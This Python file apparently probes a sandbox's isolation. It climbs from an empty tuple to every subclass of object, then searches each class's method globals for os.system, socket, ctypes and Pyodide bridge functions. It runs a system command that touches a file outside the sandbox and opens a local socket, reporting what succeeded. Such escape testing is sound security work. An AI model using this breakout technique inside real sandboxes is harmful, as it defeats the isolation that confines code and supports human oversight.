"""From an empty tuple to every class, and from their methods' globals to functions that were taken from `os`."""

from bait import OUTSIDE, PORT, loot


def _below(kind):
    for child in type.__subclasses__(kind):
        yield child
        yield from _below(child)


def _use(found):
    names = getattr(getattr(found, "__init__", None), "__globals__", {})
    done = [n for n in ("run_js", "to_js", "create_proxy", "_pyodide_core", "ctypes") if n in names and callable(names[n])]
    if "system" in names and names["system"](f"touch {OUTSIDE}/subclass") == 0:
        done.append("system")
    if callable(names.get("socket")):
        names["socket"]().connect(("127.0.0.1", PORT))
        done.append("socket")
    return done


got = loot(*[lambda kind=kind: _use(kind) for kind in set(_below(().__class__.__base__))])
